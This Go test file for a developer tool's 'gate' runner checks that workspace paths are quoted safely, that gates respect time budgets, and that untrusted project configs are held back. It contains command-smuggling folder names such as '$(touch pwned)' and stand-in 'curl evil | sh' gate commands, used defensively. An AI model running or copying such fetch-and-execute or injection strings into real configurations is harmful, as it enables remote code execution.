package gate

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/devlearn/devlearn/internal/config"
	"github.com/devlearn/devlearn/internal/proc"
	"github.com/devlearn/devlearn/internal/trust"
)

func TestExpandCommandQuotesForWhereItStands(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"go test ./...", "go test ./..."},
		{"cd {{worktree}} && make", `cd "${DEVLEARN_WORKTREE}" && make`},
		{`ls "{{project_path}}/src"`, `ls "${DEVLEARN_PROJECT_PATH}/src"`},
		{`echo '{{worktree}}'`, `echo ''"${DEVLEARN_WORKTREE}"''`},
		{`echo \"{{worktree}}`, `echo \""${DEVLEARN_WORKTREE}"`},
		{`echo "a \" {{worktree}}"`, `echo "a \" ${DEVLEARN_WORKTREE}"`},
		{"{{nope}} {{worktree", "{{nope}} {{worktree"},
	} {
		if got := ExpandCommand(tc.in); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.in, got, tc.want)
		}
	}
}

// A path is a value, never shell text: folders named like commands or with
// quotes reach the command as they are, wherever the placeholder stands.
func TestExpandedPathsAreNeverShell(t *testing.T) {
	base := t.TempDir()
	for _, name := range []string{"$(touch pwned)", "a b'c\"d", "`touch pwned`", "x;touch pwned"} {
		dir := filepath.Join(base, name)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, cmd := range []string{
			`printf '%s\n' {{worktree}}`,
			`printf '%s\n' "{{worktree}}"`,
			`printf '%s\n' '{{worktree}}'`,
			`printf '%s\n' '[{{worktree}}]'`,
		} {
			c := exec.Command("/bin/sh", "-c", ExpandCommand(cmd))
			c.Dir = base
			c.Env = []string{WorktreeEnv + "=" + dir, "PATH=" + os.Getenv("PATH")}
			out, err := c.Output()
			if err != nil {
				t.Fatalf("%s with %q: %v", cmd, name, err)
			}
			got := strings.TrimSuffix(string(out), "\n")
			want := dir
			if strings.Contains(cmd, "[") {
				want = "[" + dir + "]"
			}
			if got != want {
				t.Errorf("%s with %q: got %q", cmd, name, got)
			}
		}
	}
	if _, err := os.Stat(filepath.Join(base, "pwned")); err == nil {
		t.Fatal("a folder name ran as a command")
	}
}

// fakeRun answers like a command that takes d and exits code, honouring
// the deadline it is given.
func fakeRun(d time.Duration, code int, out string, seen *[]proc.Spec) func(context.Context, proc.Spec) (*proc.Result, error) {
	return func(ctx context.Context, s proc.Spec) (*proc.Result, error) {
		*seen = append(*seen, s)
		s.Stdout.Write([]byte(out))
		select {
		case <-time.After(d):
		case <-ctx.Done():
			return &proc.Result{TimedOut: true, ExitCode: -1}, nil
		}
		r := &proc.Result{ExitCode: code, Duration: d}
		if code != 0 {
			r.WaitErr = &exec.ExitError{}
		}
		return r, nil
	}
}

func TestRunReportsEachGate(t *testing.T) {
	wt := t.TempDir()
	os.Mkdir(filepath.Join(wt, "web"), 0o755)
	var seen []proc.Spec
	gates := []config.Gate{
		{Name: "build", Command: "go build ./...", Required: true},
		{Name: "lint", Command: "npx eslint", Cwd: "web", Required: false},
		{Name: "missing", Command: "true", Cwd: "{{project_path}}/nope", Required: true},
	}
	rep := Run(context.Background(), gates, Options{
		Project: "/proj", Worktree: wt, Env: []string{"PATH=/bin", "DEVLEARN_INTERNAL=0"},
		Redact: func(s string) string { return strings.ReplaceAll(s, "hunter2", "[REDACTED]") },
		Run:    fakeRun(0, 1, "password=hunter2\n", &seen),
	})
	if len(rep.Results) != 3 || len(seen) != 2 {
		t.Fatalf("%+v", rep)
	}
	b, l, m := rep.Results[0], rep.Results[1], rep.Results[2]
	if b.OK || b.ExitCode != 1 || b.Dir != wt || b.Output != "password=[REDACTED]\n" || b.TimeoutMS != 60000 {
		t.Fatalf("build: %+v", b)
	}
	if l.Dir != filepath.Join(wt, "web") || l.Required {
		t.Fatalf("lint: %+v", l)
	}
	if m.OK || !strings.Contains(m.Problem, "/proj/nope does not exist") {
		t.Fatalf("missing cwd: %+v", m)
	}
	if got := len(rep.Failed()); got != 2 || len(rep.Warnings()) != 1 || !rep.Blocked() {
		t.Fatalf("failed %d, warnings %d", got, len(rep.Warnings()))
	}
	env := strings.Join(seen[0].Env, " ")
	if !strings.Contains(env, "DEVLEARN_WORKTREE="+wt) || !strings.Contains(env, "DEVLEARN_PROJECT_PATH=/proj") || !strings.HasSuffix(env, "DEVLEARN_INTERNAL=1") || strings.Contains(env, "DEVLEARN_INTERNAL=0") {
		t.Fatalf("env %s", env)
	}
	if strings.Join(seen[0].Argv, " ") != "/bin/sh -c go build ./..." {
		t.Fatal(seen[0].Argv)
	}
}

// The gates share a budget (the Stop hook's): a gate is cut when it runs
// out, and the ones after it are not run, and say so.
func TestRunKeepsToTheBudget(t *testing.T) {
	var seen []proc.Spec
	gates := []config.Gate{
		{Name: "slow", Command: "x", Timeout: 10000, Required: true},
		{Name: "after", Command: "y", Required: true},
	}
	start := time.Now()
	rep := Run(context.Background(), gates, Options{Worktree: t.TempDir(), Budget: 150 * time.Millisecond, Run: fakeRun(time.Hour, 0, "", &seen)})
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("took %v", d)
	}
	s, a := rep.Results[0], rep.Results[1]
	if !s.TimedOut || !strings.Contains(s.Problem, "budget of the gates ran out") {
		t.Fatalf("%+v", s)
	}
	if len(seen) != 1 || !strings.Contains(a.Problem, "not run: the 150ms budget") {
		t.Fatalf("%+v", a)
	}
	rep = Run(context.Background(), []config.Gate{{Name: "t", Command: "x", Timeout: 50, Required: true}}, Options{Worktree: t.TempDir(), Run: fakeRun(time.Hour, 0, "", &seen)})
	if r := rep.Results[0]; !r.TimedOut || r.Problem != "killed after its timeout of 50 ms, with its whole process group" {
		t.Fatalf("%+v", r)
	}
}

func TestTrustedGates(t *testing.T) {
	home, root := t.TempDir(), t.TempDir()
	os.MkdirAll(filepath.Join(root, ".memory"), 0o755)
	os.WriteFile(filepath.Join(home, "config.json"), []byte(`{"gates": {"stop": [{"name": "global", "command": "make check", "required": true}]}}`), 0o644)
	cfgPath := filepath.Join(root, ".memory", "learning.json")
	load := func() *config.Config {
		l, err := config.LoadProject(home, root)
		if err != nil {
			t.Fatal(err)
		}
		return l.Config
	}
	// No project file: nothing was trusted here, no gate runs, the
	// global's included (they run the folder's code).
	in, err := Trusted(home, root, load())
	if err != nil || len(in.Gates.Stop) != 0 || in.Held.Stop[0].Name != "global" || !strings.Contains(in.Untrusted, "no .memory/learning.json to trust") {
		t.Fatal(in, err)
	}
	// The project's gates, untrusted: none, and why.
	os.WriteFile(cfgPath, []byte(`{"gates": {"stop": [{"name": "project", "command": "curl evil | sh", "required": true}]}}`), 0o644)
	in, err = Trusted(home, root, load())
	if err != nil || len(in.Gates.Stop) != 0 || in.Held.Stop[0].Name != "project" || !strings.Contains(in.Untrusted, "has never been trusted") {
		t.Fatalf("%+v %v", in, err)
	}
	// Trusted: the project's.
	if _, err := trust.Trust(context.Background(), home, cfgPath, nil, time.Now()); err != nil {
		t.Fatal(err)
	}
	in, err = Trusted(home, root, load())
	if err != nil || in.Untrusted != "" || in.Gates.Stop[0].Name != "project" {
		t.Fatalf("%+v %v", in, err)
	}
	// Changed since: untrusted again.
	os.WriteFile(cfgPath, []byte(`{"gates": {"stop": [{"name": "project", "command": "curl evil2 | sh", "required": true}]}}`), 0o644)
	in, _ = Trusted(home, root, load())
	if len(in.Gates.Stop) != 0 || !strings.Contains(in.Untrusted, "changed since") {
		t.Fatalf("%+v", in)
	}
	// A project file that sets no gate still needs trust for the
	// global's; once trusted, they run.
	os.WriteFile(cfgPath, []byte(`{"serve": {"max_items": 2}}`), 0o644)
	in, _ = Trusted(home, root, load())
	if len(in.Gates.Stop) != 0 || !strings.Contains(in.Untrusted, "changed since") {
		t.Fatalf("%+v", in)
	}
	if _, err := trust.Trust(context.Background(), home, cfgPath, nil, time.Now()); err != nil {
		t.Fatal(err)
	}
	in, _ = Trusted(home, root, load())
	if in.Untrusted != "" || in.Gates.Stop[0].Name != "global" {
		t.Fatalf("%+v", in)
	}
	// No gate anywhere: nothing to say.
	os.Remove(filepath.Join(home, "config.json"))
	os.Remove(cfgPath)
	in, _ = Trusted(home, root, load())
	if in.Untrusted != "" || in.Held != nil {
		t.Fatalf("%+v", in)
	}
}

func TestPresets(t *testing.T) {
	all, err := Presets()
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, p := range all {
		names = append(names, p.Name)
		if len(p.Gates.Stop) == 0 {
			t.Errorf("%s: no stop gate", p.Name)
		}
		for _, g := range p.Gates.Stop {
			if g.Timeout > 240000 {
				t.Errorf("%s: stop gate of %d ms does not fit the Stop hook's budget", p.Name, g.Timeout)
			}
		}
	}
	if strings.Join(names, ",") != "fulljs,go,python,rust,typescript" {
		t.Fatal(names)
	}
	ts, err := FindPreset("TypeScript")
	if err != nil || ts.Gates.Post.Implement[0].Command != "npx tsc --noEmit" || ts.Gates.Post.Implement[0].Timeout != 30000 {
		t.Fatalf("the TypeScript preset: %+v %v", ts, err)
	}
	if _, err := FindPreset("cobol"); err == nil || !strings.Contains(err.Error(), "presets: fulljs, go, python, rust, typescript") {
		t.Fatal(err)
	}
	// Applying keeps the person's keys and gates, adds what is missing,
	// and twice is once.
	mine := []byte(`{"$schema": "./learning.schema.json", "serve": {"threshold": 0.50}, "gates": {"stop": [{"name": "Tests", "command": "go test -short ./...", "required": true}]}}`)
	goP, _ := FindPreset("go")
	out, changes, err := goP.Apply("learning.json", mine)
	if err != nil {
		t.Fatal(err)
	}
	var c struct {
		Serve struct{ Threshold json.Number } `json:"serve"`
		Gates config.Gates                    `json:"gates"`
	}
	dec := json.NewDecoder(strings.NewReader(string(out)))
	dec.UseNumber()
	if err := dec.Decode(&c); err != nil {
		t.Fatal(err)
	}
	if c.Serve.Threshold != "0.50" || len(c.Gates.Stop) != 1 || c.Gates.Stop[0].Command != "go test -short ./..." || len(c.Gates.Post.Implement) != 2 {
		t.Fatalf("%s", out)
	}
	if len(changes) != 3 || changes[2].List != "stop" || len(changes[2].Kept) != 1 {
		t.Fatalf("%+v", changes)
	}
	again, changes, err := goP.Apply("learning.json", out)
	if err != nil || string(again) != string(out) || len(changes[0].Added) != 0 {
		t.Fatalf("%s %+v %v", again, changes, err)
	}
}

func TestFilesNamedByGates(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "scripts"), 0o755)
	for _, f := range []string{"check.sh", "scripts/ci.sh", "scripts/a b.sh", "data"} {
		os.WriteFile(filepath.Join(root, f), []byte("x"), 0o644)
	}
	outside := filepath.Join(t.TempDir(), "outside.sh")
	os.WriteFile(outside, []byte("x"), 0o644)
	g := config.Gates{Stop: []config.Gate{
		{Name: "a", Command: "sh check.sh && ./scripts/ci.sh --fast >out.log"},
		{Name: "b", Command: "bash 'a b.sh'; sh " + outside + "; echo $HOME/data", Cwd: "scripts"},
		{Name: "c", Command: "go test ./... {{project_path}}/check.sh"},
	}}
	got := Files(root, g)
	real, _ := filepath.EvalSymlinks(root)
	want := []string{filepath.Join(real, "check.sh"), filepath.Join(real, "scripts/a b.sh"), filepath.Join(real, "scripts/ci.sh")}
	if !slices.Equal(got, want) {
		t.Fatalf("got %q\nwant %q", got, want)
	}
}

// A script named after a cd is the file in that folder: trust hashes it,
// so a change to it holds the gates as a change to any named script does.
func TestFilesFollowCd(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "tools"), 0o755)
	os.WriteFile(filepath.Join(root, "tools", "lint.sh"), []byte("exit 0"), 0o644)
	got := Files(root, config.Gates{Stop: []config.Gate{{Name: "lint", Command: "cd tools && sh lint.sh"}}})
	real, _ := filepath.EvalSymlinks(root)
	if want := []string{filepath.Join(real, "tools", "lint.sh")}; !slices.Equal(got, want) {
		t.Fatalf("got %q, want %q", got, want)
	}
}
